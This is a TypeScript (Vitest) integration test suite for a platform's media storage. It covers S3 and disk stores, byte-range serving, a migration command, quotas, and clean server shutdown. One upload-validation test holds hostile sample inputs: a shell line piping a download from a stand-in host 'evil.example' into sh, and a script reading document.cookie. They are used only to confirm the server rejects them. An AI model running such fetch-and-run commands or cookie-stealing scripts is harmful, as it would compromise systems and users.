import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mediaSigner } from '../../src/server/platform/files/media';
import { diskStore, s3Store, uploadDir } from '../../src/server/platform/files/storage';
import { moveSiteMedia } from '../../src/server/platform/ops/moveMedia';
import { mediaValues } from '../../src/server/seed/factories';
import { createSite } from '../factories';
import { createPerson } from '../factories/coaching';
import { createMedia } from '../factories/courses';
import { testDialects } from '../support/databases';
import { startS3, type TestS3 } from '../support/s3';
import { startTestServer, type TestServer } from '../support/server';

const dialects = await testDialects();

/** 1000 bytes that differ at every position a test reads. */
const sample = (seed: number) => Buffer.from(Array.from({ length: 1000 }, (_, i) => (i * 7 + seed) % 256));

describe.each(dialects)('media in an S3-compatible store on %s', (dialect) => {
  let s3: TestS3;
  let server: TestServer;
  beforeAll(async () => {
    s3 = await startS3();
    server = await startTestServer(dialect, s3.env);
  });
  afterAll(async () => {
    await server.close();
    await s3.close();
  });

  const fetchSigned = async (siteId: number, fileId: number, headers: Record<string, string> = {}) => {
    const url = (await mediaSigner(server.db, siteId))(fileId);
    const response = await fetch(`${server.url}${url}`, { headers });
    return { response, bytes: Buffer.from(await response.arrayBuffer()) };
  };

  it('a signed medium is written to the bucket, not the disk, and served whole and by ranges from it', async () => {
    const site = await createSite(server.db);
    const bytes = sample(1);
    const media = await createMedia(server.db, {
      config: server.config,
      site,
      kind: 'video',
      mimeType: 'video/mp4',
      bytes,
    });
    const [key] = await s3.keys(`uploads/${site.id}/`);
    expect(await s3.sizeOf(key as string)).toBe(1000);
    expect(fs.existsSync(uploadDir(server.config, site.id))).toBe(false);

    const whole = await fetchSigned(site.id, media.id);
    expect(whole.response.status).toBe(200);
    expect(whole.response.headers.get('accept-ranges')).toBe('bytes');
    expect(whole.response.headers.get('content-type')).toBe('video/mp4');
    expect(whole.bytes.equals(bytes)).toBe(true);

    for (const [range, start, end] of [
      ['bytes=100-199', 100, 199],
      ['bytes=990-', 990, 999],
      ['bytes=-5', 995, 999],
      ['bytes=998-5000', 998, 999],
    ] as const) {
      const part = await fetchSigned(site.id, media.id, { range });
      expect(part.response.status, range).toBe(206);
      expect(part.response.headers.get('content-range'), range).toBe(`bytes ${start}-${end}/1000`);
      expect(part.bytes.equals(bytes.subarray(start, end + 1)), range).toBe(true);
    }
    // A HEAD answers the headers alone, the file not fetched for it.
    const url = (await mediaSigner(server.db, site.id))(media.id);
    const head = await fetch(`${server.url}${url}`, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(head.headers.get('content-length')).toBe('1000');
    expect(head.headers.get('content-type')).toBe('video/mp4');
    const headRange = await fetch(`${server.url}${url}`, { method: 'HEAD', headers: { range: 'bytes=10-19' } });
    expect(headRange.status).toBe(206);
    expect(headRange.headers.get('content-length')).toBe('10');
    const beyond = await fetchSigned(site.id, media.id, { range: 'bytes=1000-' });
    expect(beyond.response.status).toBe(416);
    expect(beyond.response.headers.get('content-range')).toBe('bytes */1000');

    // The signature is checked before the store is asked: a link of another site is refused.
    const other = await createSite(server.db);
    expect((await fetchSigned(other.id, media.id)).response.status).toBe(403);
  });

  it('a profile photo goes to the bucket; the photo it replaces leaves the bucket', async () => {
    const site = await createSite(server.db);
    const person = await createPerson(server, site, 'student');
    const photo = (colour: string) =>
      sharp({ create: { width: 64, height: 64, channels: 3, background: colour } })
        .png()
        .toBuffer();
    const as = { site: site.name, token: person.token };
    const first = await server.upload(await photo('#ff0000'), { folder: 'profile', ...as });
    expect(first.httpStatus).toBe(200);
    expect(await s3.keys(`uploads/${site.id}/`)).toEqual([`uploads/${site.id}/${first.body.newFilename}`]);
    const served = await fetch(`${server.url}/media/avatar/${first.body.data.UserFileId}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/webp');
    expect((await sharp(Buffer.from(await served.arrayBuffer())).metadata()).format).toBe('webp');

    const second = await server.upload(await photo('#00ff00'), { folder: 'profile', ...as });
    expect(second.httpStatus).toBe(200);
    expect(await s3.keys(`uploads/${site.id}/`)).toEqual([`uploads/${site.id}/${second.body.newFilename}`]);
    expect((await fetch(`${server.url}/media/avatar/${first.body.data.UserFileId}`)).status).toBe(404);
  });

  it("the move command moves a site's media from the disk into the bucket, verified and resumable", async () => {
    const site = await createSite(server.db);
    const bystander = await createSite(server.db);
    // Media stored before the store was configured: on the disk.
    const disk = { dataDir: server.config.dataDir };
    const video = await createMedia(server.db, {
      config: disk,
      site,
      kind: 'video',
      bytes: sample(2),
      durationSeconds: 12.5,
    });
    const file = await createMedia(server.db, { config: disk, site, kind: 'file', bytes: sample(3) });
    const untouched = await createMedia(server.db, { config: disk, site: bystander, bytes: sample(4) });
    const names = await server.db
      .selectFrom('media_files')
      .select(['id', 'storage_name'])
      .where('site_id', '=', site.id)
      .execute();
    const nameOf = (id: number) => names.find((row) => row.id === id)?.storage_name as string;
    const from = diskStore(server.config);
    // biome-ignore lint/style/noNonNullAssertion: the server of this suite is configured with the store
    const to = s3Store(server.config.s3!);

    // Not moved yet, still served: the server reads what is not in the store from the disk.
    expect((await fetchSigned(site.id, video.id, { range: 'bytes=0-9' })).bytes.equals(sample(2).subarray(0, 10))).toBe(
      true,
    );

    // An interrupted earlier run: one medium reached the store, but cut short (wrong bytes), its file still on disk.
    await to.write(site.id, nameOf(file.id), Buffer.from('cut short'), 'application/pdf');

    const first = await moveSiteMedia(server.db, { siteId: site.id, from, to });
    expect(first).toEqual({ moved: 2, alreadyMoved: 0, missing: [] });
    expect(fs.readdirSync(uploadDir(server.config, site.id))).toEqual([]);
    expect((await s3.keys(`uploads/${site.id}/`)).sort()).toEqual(
      [nameOf(video.id), nameOf(file.id)].map((name) => `uploads/${site.id}/${name}`).sort(),
    );
    // Still served, now from the store, with the right bytes.
    const part = await fetchSigned(site.id, video.id, { range: 'bytes=500-509' });
    expect(part.response.status).toBe(206);
    expect(part.bytes.equals(sample(2).subarray(500, 510))).toBe(true);
    expect((await fetchSigned(site.id, file.id)).bytes.equals(sample(3))).toBe(true);
    // The rows are as they were: the video keeps its length.
    const moved = await server.db
      .selectFrom('media_files')
      .select('duration_seconds')
      .where('id', '=', video.id)
      .executeTakeFirstOrThrow();
    expect(moved.duration_seconds).toBe(12.5);
    // Another site's media stay where they are.
    expect(fs.readdirSync(uploadDir(server.config, bystander.id))).toHaveLength(1);
    expect(await s3.keys(`uploads/${bystander.id}/`)).toEqual([]);
    expect((await fetchSigned(bystander.id, untouched.id)).bytes.equals(sample(4))).toBe(true);

    // Run again: nothing left to move, nothing lost.
    expect(await moveSiteMedia(server.db, { siteId: site.id, from, to })).toEqual({
      moved: 0,
      alreadyMoved: 2,
      missing: [],
    });
  });

  it('a medium whose file is nowhere answers 404, and the move command names it', async () => {
    const site = await createSite(server.db);
    const media = await createMedia(server.db, { config: server.config, site, bytes: sample(5) });
    const [key] = await s3.keys(`uploads/${site.id}/`);
    // biome-ignore lint/style/noNonNullAssertion: the server of this suite is configured with the store
    const to = s3Store(server.config.s3!);
    await to.remove(site.id, path.basename(key as string));
    expect((await fetchSigned(site.id, media.id)).response.status).toBe(404);
    const result = await moveSiteMedia(server.db, { siteId: site.id, from: diskStore(server.config), to });
    expect(result).toEqual({ moved: 0, alreadyMoved: 0, missing: [path.basename(key as string)] });
  });

  it("an upload past the plan's storage is refused before anything is stored; the count follows every write", async () => {
    const site = await createSite(server.db, { plan: 'starter' });
    const person = await createPerson(server, site, 'student');
    const as = { site: site.name, token: person.token };
    const usage = async () => {
      const row = await server.db
        .selectFrom('sites')
        .select('storage_bytes')
        .where('id', '=', site.id)
        .executeTakeFirstOrThrow();
      const sum = await server.db
        .selectFrom('media_files')
        .select((eb) => eb.fn.coalesce(eb.fn.sum<number>('size_bytes'), eb.lit(0)).as('total'))
        .where('site_id', '=', site.id)
        .executeTakeFirstOrThrow();
      // The kept count is always what the rows add up to.
      expect(Number(row.storage_bytes)).toBe(Number(sum.total));
      return Number(row.storage_bytes);
    };
    // The site has used all but 100 bytes of Starter's 500 MB (spec §1).
    const big = await server.db
      .insertInto('media_files')
      .values(mediaValues({ site, kind: 'video', sizeBytes: 500 * 1024 * 1024 - 100 }))
      .returning('id')
      .executeTakeFirstOrThrow();
    expect(await usage()).toBe(500 * 1024 * 1024 - 100);

    const photo = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#0000ff' } })
      .png()
      .toBuffer();
    const refused = await server.upload(photo, { folder: 'profile', ...as });
    expect(refused.httpStatus).toBe(413);
    expect(refused.body).toMatchObject({ status: 'ERROR', error_code: 'STORAGE_FULL' });
    expect(await s3.keys(`uploads/${site.id}/`)).toEqual([]);
    expect(await usage()).toBe(500 * 1024 * 1024 - 100);

    // Room made: the same upload is taken and counted; its replacement moves the count by the difference.
    await server.db.deleteFrom('media_files').where('id', '=', big.id).execute();
    expect(await usage()).toBe(0);
    const taken = await server.upload(photo, { folder: 'profile', ...as });
    expect(taken.httpStatus).toBe(200);
    const first = await usage();
    expect(first).toBe(await s3.sizeOf(`uploads/${site.id}/${taken.body.newFilename}`));
    const replaced = await server.upload(
      await sharp({ create: { width: 300, height: 300, channels: 3, background: '#00ffff' } })
        .png()
        .toBuffer(),
      { folder: 'profile', ...as },
    );
    expect(replaced.httpStatus).toBe(200);
    expect(await usage()).toBe(await s3.sizeOf(`uploads/${site.id}/${replaced.body.newFilename}`));
  });

  it('the type of an upload is read from its bytes, never from its name or declared type', async () => {
    const site = await createSite(server.db);
    const person = await createPerson(server, site, 'student');
    const as = { site: site.name, token: person.token };
    for (const [label, bytes] of [
      ['a shell script', Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\n')],
      ['a page with a script', Buffer.from('<html><script>alert(document.cookie)</script></html>')],
      ['a PNG signature and nothing else', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x3c, 0x73])],
    ] as const) {
      const refused = await server.upload(bytes, {
        folder: 'profile',
        fileName: 'photo.png',
        mimeType: 'image/png',
        ...as,
      });
      expect(refused.httpStatus, label).toBe(415);
      expect(refused.body, label).toMatchObject({ status: 'ERROR', error_code: 'UNSUPPORTED_FILE' });
    }
    expect(await s3.keys(`uploads/${site.id}/`)).toEqual([]);
    expect(await server.db.selectFrom('media_files').select('id').where('site_id', '=', site.id).execute()).toEqual([]);

    // A real image under a misleading name and type is taken, and what is served is the image the server made.
    const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    const taken = await server.upload(png, { folder: 'profile', fileName: 'notes.txt', mimeType: 'text/plain', ...as });
    expect(taken.httpStatus).toBe(200);
    const served = await fetch(`${server.url}/media/avatar/${taken.body.data.UserFileId}`);
    expect(served.headers.get('content-type')).toBe('image/webp');
  });
});

/** Settles as `promise` does, or fails once `ms` have passed: a server that does not close is a hang. */
async function within<T>(promise: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: not within ${ms} ms`)), ms);
  });
  try {
    return await Promise.race([promise, late]);
  } finally {
    clearTimeout(timer);
  }
}

/** The open file descriptors of this process (the server runs in it) that name `file`. */
const openDescriptorsOf = (file: string) =>
  fs.readdirSync('/proc/self/fd').filter((fd) => {
    try {
      return fs.readlinkSync(`/proc/self/fd/${fd}`) === file;
    } catch {
      return false;
    }
  });

describe.each(dialects.flatMap((dialect) => (['disk', 's3'] as const).map((store) => [dialect, store] as const)))(
  'a server streaming media closes promptly on %s, media on %s',
  (dialect, store) => {
    let s3: TestS3 | undefined;
    beforeAll(async () => {
      if (store === 's3') s3 = await startS3();
    });
    afterAll(async () => {
      await s3?.close();
    });

    it('an answer under way when it closes is finished, and its connection closed; aborted reads leave nothing open', async () => {
      const server = await startTestServer(dialect, s3?.env ?? {});
      let closing: Promise<void> | undefined;
      try {
        const site = await createSite(server.db);
        // Large enough that the answer is still being sent while the client has read only its first bytes.
        const bytes = Buffer.alloc(8 * 1024 * 1024, 7);
        const media = await createMedia(server.db, {
          config: server.config,
          site,
          kind: 'video',
          mimeType: 'video/mp4',
          bytes,
        });
        const url = `${server.url}${(await mediaSigner(server.db, site.id))(media.id)}`;
        const [name] = (
          await server.db.selectFrom('media_files').select('storage_name').where('id', '=', media.id).execute()
        ).map((row) => row.storage_name);
        const file = path.join(uploadDir(server.config, site.id), name as string);

        // A player that reads the start of a video, and a seek that is given up: both leave nothing open.
        for (const range of [undefined, 'bytes=1000000-']) {
          const abort = new AbortController();
          const response = await fetch(url, { headers: range ? { range } : {}, signal: abort.signal });
          expect(response.status).toBe(range ? 206 : 200);
          await response.body?.getReader().read();
          abort.abort();
        }
        // A whole ranged read.
        const ranged = await fetch(url, { headers: { range: 'bytes=100-199' } });
        expect(Buffer.from(await ranged.arrayBuffer()).equals(bytes.subarray(100, 200))).toBe(true);
        if (store === 'disk') {
          await expect.poll(() => openDescriptorsOf(file), { timeout: 20_000 }).toEqual([]);
        }

        // The server is told to close while the whole file is being sent.
        const response = await fetch(url);
        const reader = (response.body as ReadableStream<Uint8Array>).getReader();
        let received = (await reader.read()).value?.length ?? 0;
        expect(received).toBeLessThan(bytes.length);
        closing = server.close();
        for (;;) {
          const chunk = await reader.read();
          if (chunk.done) break;
          received += chunk.value.length;
        }
        expect(received).toBe(bytes.length);
        // Kept alive after its answer, the connection would hold the server open until the keep-alive timeout (72 s);
        // the bound leaves room for a loaded machine.
        await within(closing, 20_000, 'the server closing');
      } finally {
        await within(closing ?? server.close(), 20_000, 'the server closing after the test');
      }
    }, 90_000);
  },
);
